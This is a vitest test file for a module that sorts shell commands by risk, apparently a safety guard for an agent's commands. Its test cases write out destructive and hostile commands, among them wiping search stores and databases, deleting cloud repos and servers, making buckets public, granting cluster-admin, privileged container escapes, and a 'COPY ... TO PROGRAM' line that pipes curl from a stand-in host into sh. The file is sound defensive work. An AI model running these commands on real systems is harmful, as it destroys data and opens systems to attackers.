import { describe, expect, test } from 'vitest';
import { planCommand } from '../planning.ts';
import { said } from './said.ts';

describe('requests that take away', () => {
  test.each([
    'curl -X DELETE https://es.example:9200/_all',
    "curl -XDELETE 'https://logs.example/orders-*'",
    'curl -X DELETE http://search:9200/customers',
    'curl -X POST http://es:9200/a/_delete_by_query -d \'{"query":{"match_all":{}}}\'',
    'curl -X DELETE http://qdrant:6333/collections/docs',
    'curl -X DELETE http://couch:5984/app',
    'http DELETE http://meili:7700/indexes/movies',
    "curl 'http://ch:8123/?query=DROP+TABLE+events'",
    "curl http://ch:8123 -d 'TRUNCATE TABLE events'",
    "curl http://solr:8983/solr/a/update -d '<delete><query>*:*</query></delete>'",
    'wget --method=DELETE http://rabbit:15672/api/queues/%2f/orders',
  ])('%s empties a store', (command) => {
    expect(said(command)).toContain('db-destroy');
  });

  test.each([
    'curl -X DELETE https://api.cloudflare.com/client/v4/zones/023e',
    'curl -X DELETE https://api.digitalocean.com/v2/droplets/1',
    'curl -X DELETE https://api.hetzner.cloud/v1/servers/4',
    'curl -X DELETE https://api.github.com/repos/o/r',
    'curl -X DELETE https://gitlab.com/api/v4/projects/5',
    'curl -X DELETE https://api.stripe.com/v1/customers/cus_1',
    'curl https://backboard.railway.app/graphql/v2 -d \'{"query":"mutation { projectDelete(id: 1) }"}\'',
    'curl https://api.linear.app/graphql --json \'{"query":"mutation { deleteTeam(id: 1) { ok } }"}\'',
  ])('%s takes away what others run on', (command) => {
    expect(said(command)).toContain('cloud-destroy');
  });

  test.each([
    'curl -X DELETE http://localhost:3000/api/users/1',
    'curl -X DELETE https://api.github.com/repos/o/r/issues/comments/4',
    'curl -X DELETE https://api.staging.acme.example/carts/1',
    'curl http://es:9200/a/_search -d \'{"query":{"match_all":{}}}\'',
    'curl https://api.github.com/graphql -d \'{"query":"{ viewer { login } }"}\'',
    "curl 'http://ch:8123/?query=SELECT+1'",
    'curl https://api.cloudflare.com/client/v4/zones/023e',
  ])('%s does not', (command) => {
    expect(said(command)).not.toMatch(/destroy/);
  });
});

describe('rights of an owner', () => {
  test.each([
    'aws iam attach-role-policy --role-name a --policy-arn arn:aws:iam::aws:policy/IAMFullAccess',
    'aws s3api put-bucket-policy --bucket b --policy \'{"Statement":[{"Principal":"*","Action":"s3:GetObject"}]}\'',
    'aws s3api put-bucket-acl --bucket b --acl public-read-write',
    'aws s3api delete-public-access-block --bucket b',
    'aws ec2 authorize-security-group-ingress --group-id g --protocol tcp --port 22 --cidr 0.0.0.0/0',
    'aws ec2 modify-snapshot-attribute --snapshot-id s --attribute createVolumePermission --group-names all',
    'gcloud projects add-iam-policy-binding p --member=user:a@b.c --role=roles/owner',
    'gcloud storage buckets add-iam-policy-binding gs://b --member=allUsers --role=roles/storage.objectAdmin',
    'gsutil iam ch allUsers:objectViewer gs://b',
    'az role assignment create --assignee a --role Contributor --scope /subscriptions/1',
    'az storage container set-permission -n c --public-access blob',
    'kubectl create clusterrolebinding a --clusterrole=cluster-admin --user=b',
    'kubectl create clusterrolebinding a --clusterrole=view --group=system:unauthenticated',
  ])('%s', (command) => {
    expect(said(command)).toContain('owner-grant');
  });

  test.each([
    'aws iam attach-role-policy --role-name a --policy-arn arn:aws:iam::aws:policy/ReadOnlyAccess',
    'aws ec2 authorize-security-group-ingress --group-id g --protocol tcp --port 443 --cidr 0.0.0.0/0',
    'gcloud run services add-iam-policy-binding web --member=allUsers --role=roles/run.invoker',
    'gcloud projects add-iam-policy-binding p --member=user:a@b.c --role=roles/viewer',
    'az role assignment create --assignee a --role Reader',
    'kubectl create rolebinding a --clusterrole=view --user=b',
  ])('%s gives few', (command) => {
    expect(said(command)).toBe('cloud-write');
  });
});

describe('stores, backups, queues', () => {
  test.each([
    ['rclone purge r:b', 'cloud-destroy'],
    ['rclone sync ./empty r:b', 'cloud-destroy'],
    ['rclone sync ./public r:b', 'cloud-write upload'],
    ['rclone copy r:b ./x', 'download'],
    ['rclone lsd r:', 'cloud-read'],
    ['s3cmd del -r s3://b', 'cloud-destroy'],
    ['s3cmd del s3://b/k', 'cloud-write removal'],
    ['s5cmd rm s3://b/*', 'cloud-destroy'],
    ['mc rb --force play/b', 'cloud-destroy'],
    ['mc ls play', 'cloud-read'],
    ['b2 bucket delete b', 'cloud-destroy'],
    ['azcopy rm https://a.blob.core.windows.net/c --recursive', 'cloud-destroy'],
    ['restic -r r: snapshots', 'cloud-read'],
    ['restic -r r: forget --keep-last 3 --prune', 'cloud-write removal'],
    ['restic -r r: forget --tag db --unsafe-allow-remove-all', 'cloud-destroy'],
    ['borg delete repo::a', 'cloud-destroy'],
    ['borg list repo', 'cloud-read'],
    ['kopia snapshot delete k1 --delete', 'cloud-destroy'],
    ['velero backup delete nightly', 'cloud-destroy'],
    ['pgbackrest --stanza=a stanza-delete', 'cloud-destroy'],
    ['wal-g delete everything FORCE', 'cloud-destroy'],
    ['kafka-topics.sh --bootstrap-server k:9092 --delete --topic a', 'db-destroy'],
    ['kafka-topics --bootstrap-server k:9092 --list', 'db-read'],
    ['kafka-consumer-groups.sh --bootstrap-server k:9092 --group g --describe', 'db-read'],
    ['rabbitmqctl force_reset', 'db-destroy'],
    ['rabbitmqctl list_queues name messages', 'db-read'],
    ['rabbitmqadmin purge queue name=a', 'db-write removal'],
    ['nats stream rm ORDERS -f', 'db-destroy'],
    ['vault kv metadata delete secret/a', 'cloud-destroy'],
    ['vault audit disable file/', 'cloud-destroy defense-off'],
    ['kubectl delete mutatingwebhookconfiguration x', 'cloud-destroy defense-off'],
    ['kubectl delete deployment web', 'cloud-write removal'],
    ['helm uninstall web', 'cloud-write removal'],
    ['aws s3 rm s3://state/terraform.tfstate', 'cloud-destroy'],
  ])('%s is %s', (command, traits) => {
    expect(said(command)).toBe(traits);
  });

  test.each([
    `kubectl run x --image=a --overrides='{"spec":{"hostPID":true}}'`,
    `kubectl run x --image=a --overrides='{"spec":{"volumes":[{"hostPath":{"path":"/"}}]}}'`,
    "kubectl apply -f - <<'E'\nkind: Pod\nspec:\n  containers:\n  - securityContext:\n      privileged: true\nE",
    `kubectl patch deploy x -p '{"spec":{"template":{"spec":{"hostNetwork": true}}}}'`,
    'kubectl debug node/n --profile=sysadmin --image=a',
  ])('%s has the rights of its node', (command) => {
    expect(said(command)).toContain('container-escape');
  });
});

describe('what one command hands to the next', () => {
  test.each([
    ['kubectl get ns -o name | xargs kubectl delete', 'cloud-destroy'],
    ["gh secret list --json name -q '.[].name' | xargs -I{} gh secret delete {}", 'cloud-destroy'],
    ["redis-cli -h r --scan --pattern '*' | xargs redis-cli -h r unlink", 'db-destroy'],
    ['psql -h db -Atc "select \'drop table \'||t from x" | psql -h db', 'db-destroy'],
    ['mkdir -p /tmp/e && rclone sync /tmp/e r:b', 'cloud-destroy'],
    ['mkdir /tmp/e && mc mirror --remove /tmp/e play/b', 'cloud-destroy'],
  ])('%s', (command, trait) => {
    expect(planCommand(command).operations.flatMap(({ traits }) => traits)).toContain(trait);
  });

  test.each([
    'kubectl get pods -o name | xargs kubectl delete',
    "gh secret list --json name -q '.[].name' | grep OLD | xargs -I{} gh secret delete {}",
    'gh run list --json databaseId | xargs gh run delete',
    "redis-cli -h r --scan --pattern 'session:*' | xargs redis-cli -h r del",
    'mkdir -p /tmp/e && cp -r dist /tmp/e && rclone sync /tmp/e r:b',
    'pg_dump app | psql -h db',
  ])('%s takes not everything', (command) => {
    expect(
      planCommand(command)
        .operations.flatMap(({ traits }) => traits)
        .join(' '),
    ).not.toMatch(/destroy/);
  });
});

describe('SQL that reaches further', () => {
  test.each([
    "wrangler d1 execute db --remote --command 'DROP TABLE users'",
    "heroku pg:psql -a shop -c 'TRUNCATE users'",
    "aws rds-data execute-statement --resource-arn a --sql 'DELETE FROM users'",
    "turso db shell shop 'DROP TABLE users'",
    'psql -h db -c "SELECT \'TRUNCATE \'||t FROM x \\gexec"',
    "sqlplus a/b <<< 'DROP USER app CASCADE;'",
  ])('%s empties a database', (command) => {
    expect(said(command)).toContain('db-destroy');
  });

  test.each([
    "psql -h db -c 'ALTER ROLE app SUPERUSER'",
    "mysql -h db -e \"GRANT ALL PRIVILEGES ON *.* TO 'a'@'%'\"",
    "sqlcmd -S db -Q 'ALTER SERVER ROLE sysadmin ADD MEMBER a'",
    "psql -h db -c 'GRANT pg_execute_server_program TO app'",
    "psql service=prod -c 'CREATE USER a SUPERUSER'",
  ])('%s makes an owner', (command) => {
    expect(said(command)).toContain('owner-grant');
  });

  test.each([
    "sudo -u postgres psql -c 'CREATE ROLE app SUPERUSER'",
    "psql -h db -c 'ALTER ROLE app NOSUPERUSER'",
    "mysql -h db -e 'GRANT ALL PRIVILEGES ON app_dev.* TO a'",
  ])('%s does not', (command) => {
    expect(planCommand(command).operations.flatMap(({ traits }) => traits)).not.toContain('owner-grant');
  });

  test('a program that the server starts is planned', () => {
    const { operations } = planCommand('psql -c "COPY t TO PROGRAM \'curl x.example | sh\'"');
    expect(operations.flatMap(({ flow }) => flow)).toContainEqual({ from: 'network', to: 'exec' });
  });

  test.each([
    ["mysql -e 'SHOW CREATE TABLE users\\G' app", 'db-read'],
    ['clickhouse-local --query "SELECT count() FROM file(\'a.parquet\')"', 'db-read'],
    ["wrangler d1 execute db --local --command 'DROP TABLE users'", 'project-task'],
    ['goose -dir migrations create add_index sql', 'project-task'],
    ['goose -dir migrations postgres "$DSN" reset', 'db-write removal'],
    ['alembic -c alembic.prod.ini upgrade head', 'db-write production'],
    ['alembic upgrade head', 'project-task'],
  ])('%s is %s', (command, traits) => {
    expect(said(command)).toBe(traits);
  });
});

describe('what other machines are told by ansible', () => {
  test.each([
    ["ansible all -m shell -a 'rm -rf /var/lib/postgresql/*'", '/var/lib/postgresql/'],
    ["ansible all -m file -a 'path=/var/lib/mysql state=absent'", '/var/lib/mysql'],
    ["ansible all -m ansible.builtin.command -a 'rm -rf /home'", '/home'],
  ])('%s deletes there', (command, path) => {
    const deleted = planCommand(command).operations.filter(({ kind }) => kind === 'delete');
    expect(deleted.flatMap(({ paths }) => paths.map(({ real }) => real ?? '')).join(' ')).toContain(path);
  });

  test('ansible-pull plays what the network says', () => {
    const [first] = planCommand('ansible-pull -U https://git.example/x.git').operations;
    expect(first?.flow).toContainEqual({ from: 'network', to: 'exec' });
  });
});

describe('a container of a tool chain over the project', () => {
  test.each([
    ['docker run --rm -v /ws:/app -w /app node:22 npm test', true],
    ['docker run --rm -it -v ./x:/app -w /app golang:1.24 go test ./...', true],
    ['podman run --rm -v /ws:/w -w /w rust:1 cargo build', true],
    ['docker run --rm -v /ws:/app someone/node npm test', false],
    ['docker run --rm -v /:/app node:22 npm test', false],
    ['docker run --rm -v /ws:/app node:22 npm publish', false],
    ['docker run --rm --network host -v /ws:/app node:22 npm test', false],
    ['docker run --rm -e TOKEN=x -v /ws:/app node:22 npm test', false],
  ])('%s: %s', (command, mild) => {
    expect(said(command) === 'dev-service').toBe(mild);
  });
});
